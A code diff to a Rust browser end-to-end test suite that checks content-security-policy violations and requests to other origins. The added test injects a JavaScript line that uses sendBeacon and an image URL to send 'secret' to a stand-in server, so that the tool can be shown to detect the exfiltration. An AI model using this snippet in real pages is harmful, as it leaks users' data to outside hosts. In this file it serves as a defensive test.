@@ -3,7 +3,7 @@
 
 #![allow(clippy::panic, reason = "assertions end a test by panicking")]
 
-use signpost_e2e::site::{self, Reply, Server};
+use signpost_e2e::site::{self, Reply, Server, Site};
 use signpost_e2e::{Failure, Key, Outcome, Page, Screen, View};
 use std::net::TcpStream;
 
@@ -105,8 +105,10 @@ async fn policy_violations_errors_and_requests_are_noticed() -> Outcome {
         const style = document.createElement('style'); style.textContent = '* { color: red }'; document.head.append(style);
         setTimeout(() => { throw new Error('on purpose'); });";
     page.script(spoil, vec![]).await?;
-    page.until("both requests", async || Ok((page.sent().await?.len() >= 2).then_some(()))).await?;
-    assert_eq!(site.requests().len(), 1);
+    page.until("the request", async || Ok((!page.sent().await?.is_empty()).then_some(()))).await?;
+    assert_eq!(page.sent().await?, [site.url("/here")], "what the policy blocks does not leave");
+    // The browser tells of a request when it sends it, the server when it has answered.
+    page.until("the answer", async || Ok((site.requests().len() == 1).then_some(()))).await?;
     let trouble = page.until("all trouble", async || {
         let trouble = page.trouble().await?.join("\n");
         let all = ["style-src", "connect-src", "on purpose"].iter().all(|part| trouble.contains(part));
@@ -114,6 +116,23 @@ async fn policy_violations_errors_and_requests_are_noticed() -> Outcome {
     });
     assert!(trouble.await?.contains("404"));
     assert!(matches!(page.quiet().await, Err(Failure::Unexpected(_))));
+    Ok(())
+}
+
+#[tokio::test]
+async fn requests_to_other_origins_are_noticed() -> Outcome {
+    let site = site::serve(Site { csp: None, ..Site::empty() })?;
+    let elsewhere = stand_in()?;
+    site.answer("/", Reply::html("<p>No widget, no policy"));
+    let page = Page::open(&site, "/").await?;
+    page.forget_sent().await?;
+    let leak = "navigator.sendBeacon(arguments[0], 'secret'); new Image().src = arguments[0] + '?secret';";
+    page.script(leak, vec![elsewhere.url("/leak").into()]).await?;
+    page.until("both requests", async || Ok((page.sent().await?.len() == 2).then_some(()))).await?;
+    page.until("the beacon", async || {
+        Ok(elsewhere.requests().iter().find(|sent| sent.body == b"secret").cloned())
+    })
+    .await?;
     Ok(())
 }
 
